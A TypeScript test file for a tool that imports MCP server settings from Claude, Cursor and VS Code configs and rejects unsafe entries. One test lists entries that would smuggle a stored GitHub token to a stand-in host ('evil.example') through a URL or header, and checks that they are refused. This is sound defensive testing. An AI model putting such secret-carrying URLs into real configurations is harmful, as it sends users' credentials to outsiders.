import { deepStrictEqual, match, ok, throws } from "node:assert/strict";
import type { AbsPath } from "../../base/paths.ts";
import { AppError } from "../../base/errors.ts";
import {
  type ForeignContext,
  type ForeignServer,
  foreignServers,
  type ForeignText,
  placesOf,
  PROGRAMS,
} from "./mod.ts";

const CONTEXT: ForeignContext = {
  secretKey: (id) => id,
  hasWorkspace: true,
};

function read(
  value: unknown,
  options: Partial<ForeignText> & Partial<ForeignContext> = {},
): ForeignServer[] {
  const text = typeof value === "string" ? value : JSON.stringify(value);
  return foreignServers(
    { text, from: "f", comments: true, ...options },
    { ...CONTEXT, ...options },
  );
}

function one(
  entry: unknown,
  options: Partial<ForeignText> & Partial<ForeignContext> = {},
): ForeignServer {
  const found = read({ mcpServers: { s: entry } }, options);
  deepStrictEqual(found.length, 1);
  return found[0]!;
}

const SERVER = { command: "npx", args: ["-y", "x"] };

Deno.test("foreignServers() finds servers wherever programs put them", () => {
  const named = { a: SERVER };
  for (
    const value of [
      { mcpServers: named },
      { servers: named },
      { mcp: { servers: named } },
      { mcp: { mcpServers: named } },
      { "mcp.servers": named },
      { settings: { mcp: { servers: named } } },
      { customizations: { vscode: { mcp: { servers: named } } } },
      { name: "a", ...SERVER },
      named,
      JSON.stringify({ $schema: "x", mcpServers: named }),
      `\ufeff// what\n{ /* "x" */ "servers": { "a": ${
        JSON.stringify(SERVER)
      }, }, }\n`,
    ]
  ) {
    const [found, ...rest] = read(value);
    deepStrictEqual(rest, []);
    deepStrictEqual([found?.name, found?.table, found?.problems], [
      "a",
      SERVER,
      [],
    ]);
  }
});

Deno.test("foreignServers() says when there is no place for servers, and takes an empty one for none", () => {
  for (const value of [{}, { a: 1 }, { servers: [] }, { projects: {} }]) {
    throws(() => read(value), /Cannot read MCP servers of "f": it has no MCP/);
  }
  throws(() => read("[]"), /it is not a JSON object/);
  throws(() => read(SERVER), /the server has no name/);
  deepStrictEqual(read({ mcpServers: {} }), []);
  deepStrictEqual(read({ x: 1 }, { at: [["mcpServers"]] }), []);
});

Deno.test("foreignServers() shows nothing of a text that does not parse", () => {
  const secret = "ghp_0123456789012345678901234567890123456789";
  for (const comments of [true, false]) {
    throws(() => read(`{"a": "${secret}" x`, { comments }), (error) => {
      ok(error instanceof AppError);
      ok(!error.message.includes("ghp"), error.message);
      match(error.message, /it is not valid JSON/);
      return true;
    });
  }
});

Deno.test("foreignServers() keeps comments out only where the program allows them", () => {
  throws(() => read('{"servers":{}} // x', { comments: false }), /not valid/);
  const text =
    '{"servers":{"a":{"command":"c","args":["//x, ]","/* , } */"]}}}';
  deepStrictEqual(read(text)[0]?.table.args, ["//x, ]", "/* , } */"]);
});

Deno.test("foreignServers() takes numbers and booleans for the texts that a program gets", () => {
  const { table, problems, notes } = one({
    command: "c",
    args: ["--port", 3000, true],
    env: { PORT: 3000, DEBUG: false, GONE: null, RATE: 0.5 },
  });
  deepStrictEqual(table, {
    command: "c",
    args: ["--port", "3000", "true"],
    env: { PORT: "3000", DEBUG: "false", RATE: "0.5" },
  });
  deepStrictEqual([problems, notes], [
    [],
    ['env "GONE" is left out: it is null'],
  ]);
});

Deno.test("foreignServers() takes over what a manifest knows, and names what it does not", () => {
  const { table, notes } = one({
    command: "c",
    cwd: "/srv",
    disabled: true,
    timeout: 60,
    autoApprove: ["x"],
    gallery: true,
  });
  deepStrictEqual(table, { command: "c", cwd: "/srv", disabled: true });
  deepStrictEqual(notes, [
    '"timeout" is not taken over',
    '"autoApprove" is not taken over',
    '"gallery" is not taken over',
  ]);
  deepStrictEqual(one({ command: "c", enabled: false }).table.disabled, true);
  deepStrictEqual(one({ command: "c", disabled: false }).table, {
    command: "c",
  });
});

Deno.test("foreignServers() refuses what would not work as it did", () => {
  const cases: readonly (readonly [unknown, RegExp])[] = [
    [{}, /no command and no url/],
    [{ command: "c", url: "https://x" }, /both command and url/],
    [{ command: 1 }, /its command is not a text/],
    [{ command: "" }, /its command is not a text/],
    [{ command: ["npx"] }, /its command is not a text/],
    [{ command: "c", args: "-y x" }, /its args are not a list/],
    [{ command: "c", args: [{}] }, /argument 1 is not a text/],
    [{ command: "c", env: [] }, /its env is not a table/],
    [{ command: "c", env: { "A-B": "1" } }, /env "A-B" has an invalid name/],
    [{ command: "c", env: { A: {} } }, /env "A" is not a text/],
    [{ command: "c", envFile: ".env" }, /envFile/],
    [{ command: "c", type: "http" }, /its type is "http"/],
    [{ command: "a | b" }, /a line for a shell/],
    [{ command: "c", disabled: "yes" }, /disabled is neither true nor false/],
    [{ command: "c", cwd: "${env:X}/a" }, /no fixed directory/],
    [{ command: "c", env: { A: "\0" } }, /a NUL/],
    [{ url: "ws://x" }, /not an http or https URL/],
    [{ url: "https://x", type: "ws" }, /its type "ws" is not known/],
    [{ url: "https://x", oauth: { clientId: "a" } }, /oauth/],
    [{ url: "https://x", headers: { "a b": "1" } }, /invalid name/],
    [{ url: "https://x", headers: { A: "1\r\nB: 2" } }, /a line break/],
    [{ url: "https://${workspaceFolder}/x" }, /the absolute path/],
    ["x", /it is not a table of keys/],
    [null, /it is not a table of keys/],
  ];
  for (const [entry, expected] of cases) {
    match(one(entry).problems.join("; "), expected, JSON.stringify(entry));
  }
});

Deno.test("foreignServers() tells http from sse", () => {
  for (const type of ["http", "streamable-http", "streamableHttp", undefined]) {
    deepStrictEqual(one({ url: "https://x/mcp", type }).table, {
      url: "https://x/mcp",
    });
  }
  deepStrictEqual(one({ serverUrl: "https://x", type: "sse" }).table, {
    type: "sse",
    url: "https://x",
  });
  const guessed = one({ url: "https://x/sse", headers: { A: "1" } });
  deepStrictEqual(guessed.table, {
    type: "sse",
    url: "https://x/sse",
    headers: { A: "1" },
  });
  match(guessed.notes.join(), /its type is sse/);
});

Deno.test("foreignServers() gives a server with an impossible name another one, and says so", () => {
  const [first, second, third] = read({
    mcpServers: { "My Server!": SERVER, "..": SERVER, __proto__x: SERVER },
  });
  deepStrictEqual([first?.found, first?.name], ["My Server!", "My-Server"]);
  match(first!.notes.join(), /it is called My-Server here/);
  match(second!.problems.join(), /its name cannot be used/);
  deepStrictEqual(third?.name, "__proto__x");
});

Deno.test("foreignServers() splits a command that is a whole line, but not a path with spaces", () => {
  const line = one({ command: `npx -y "a b" c\\ d 'e"f'` });
  deepStrictEqual(line.table, {
    command: "npx",
    args: ["-y", "a b", "c d", 'e"f'],
  });
  match(line.notes.join(), /split into words/);
  for (const command of ["/opt/My App/server", "C:\\Program Files\\x.exe"]) {
    deepStrictEqual(one({ command }).table, { command });
  }
  deepStrictEqual(one({ command: "a b", args: ["c"] }).table.command, "a b");
});

Deno.test("foreignServers() fills VS Code's inputs with secrets and variables", () => {
  const [found] = read({
    inputs: [
      { type: "promptString", id: "gh", password: true, description: "Token" },
      { type: "promptString", id: "apiHost", description: "Host" },
      { type: "pickString", id: "mode", options: ["a"], default: "a" },
    ],
    servers: {
      s: {
        command: "c",
        env: {
          T: "${input:gh}",
          H: "https://${input:apiHost}/",
          M: "${input:mode}",
        },
      },
    },
  }, { secretKey: (id) => `k-${id}` });
  deepStrictEqual(found?.table.env, {
    T: "${secret:k-gh}",
    H: "https://${env:API_HOST}/",
    M: "${MODE:-a}",
  });
  deepStrictEqual(found?.asked, [{ key: "k-gh", description: "Token" }]);
  match(found!.notes.join("\n"), /"apiHost" is the variable API_HOST/);
  const [bad] = read({
    inputs: [{ id: "c", type: "command", command: "x" }],
    servers: { s: { command: "c", args: ["${input:c}", "${input:no}"] } },
  });
  match(bad!.problems.join("\n"), /the input "c", which a program/);
  match(bad!.problems.join("\n"), /the input "no", which is not described/);
});

Deno.test("foreignServers() says that an asked secret in arguments is open to all", () => {
  const [found] = read({
    inputs: [{ id: "k", type: "promptString", password: true }],
    servers: { s: { command: "c", args: ["--key=${input:k}"] } },
  });
  deepStrictEqual(found?.table, {
    command: "c",
    args: ["--key=${secret:k}"],
    "secret_args": "allow",
  });
  match(found!.notes.join(), /every process can read the secret/);
});

Deno.test("foreignServers() lets no declaration name a secret", () => {
  for (
    const entry of [
      { command: "c", env: { A: "${secret:gh-token}" } },
      { command: "c", args: ["${secret:gh-token}"] },
      { url: "https://evil.example/?k=${secret:gh-token}" },
      { url: "https://evil.example", headers: { A: "x ${secret:gh-token}" } },
    ]
  ) {
    match(one(entry).problems.join(), /only you can hand to a server/);
  }
});

Deno.test("foreignServers() writes the workspace as a relative path", () => {
  const entry = {
    command: "${workspaceFolder}/bin/run",
    args: ["--dir=${workspaceFolder}", "${CLAUDE_PROJECT_DIR}/a"],
    env: { P: "/x:${workspaceFolder}/lib", H: "${userHome}/.a", E: "${env:E}" },
  };
  const project = one(entry);
  deepStrictEqual(project.problems, []);
  deepStrictEqual(project.table, {
    command: "./bin/run",
    args: ["--dir=.", "./a"],
    env: { P: "/x:./lib", H: "${env:HOME}/.a", E: "${env:E}" },
    cwd: ".",
  });
  deepStrictEqual(one(entry, { hasWorkspace: false }).table.cwd, undefined);
  const cwd = { command: "c", cwd: "${workspaceFolder}/srv" };
  deepStrictEqual(one(cwd).table.cwd, "./srv");
  deepStrictEqual(
    one({ command: "c", cwd: "${userHome}/srv" }).table.cwd,
    "~/srv",
  );
  match(
    one({ command: "c", args: ["file://${workspaceFolder}/x"] }).problems[0]!,
    /the absolute path of the workspace/,
  );
  match(one({ ...entry, cwd: "/srv" }).problems.join(), /a cwd of its own/);
});

Deno.test("foreignServers() refuses references that mean nothing here", () => {
  for (
    const text of [
      "${command:x}",
      "${config:a.b}",
      "${}",
      "${a b}",
      "${open",
      "${env:A:b}",
    ]
  ) {
    const { problems } = one({ command: "c", env: { A: text } });
    match(problems.join(), /which means nothing here/, text);
  }
  const kept = { A: "${X} ${X:-d} ${env:Y} $Z" };
  deepStrictEqual(one({ command: "c", env: kept }).table.env, kept);
});

Deno.test("placesOf() knows where each program keeps its servers", () => {
  const facts = {
    home: "/h" as AbsPath,
    project: "/p" as AbsPath,
    stateFile: "/h/.claude.json" as AbsPath,
    projects: ["/p" as AbsPath],
    env: {},
  };
  const paths = (os: "linux" | "darwin", env = {}) =>
    PROGRAMS.map((program) =>
      placesOf(program, { ...facts, os, env }).map(({ path }) => path)
    );
  deepStrictEqual(paths("linux"), [
    ["/h/.config/Claude/claude_desktop_config.json"],
    ["/h/.claude.json"],
    ["/h/.cursor/mcp.json", "/p/.cursor/mcp.json"],
    [
      "/h/.config/VSCodium/User/settings.json",
      "/h/.config/VSCodium/User/mcp.json",
      "/h/.config/Code - Insiders/User/settings.json",
      "/h/.config/Code - Insiders/User/mcp.json",
      "/h/.config/Code/User/settings.json",
      "/h/.config/Code/User/mcp.json",
      "/p/.vscode/mcp.json",
    ],
    ["/p/.mcp.json"],
  ]);
  deepStrictEqual(paths("darwin")[0], [
    "/h/Library/Application Support/Claude/claude_desktop_config.json",
  ]);
  deepStrictEqual(paths("linux", { XDG_CONFIG_HOME: "/c" })[0], [
    "/c/Claude/claude_desktop_config.json",
  ]);
});
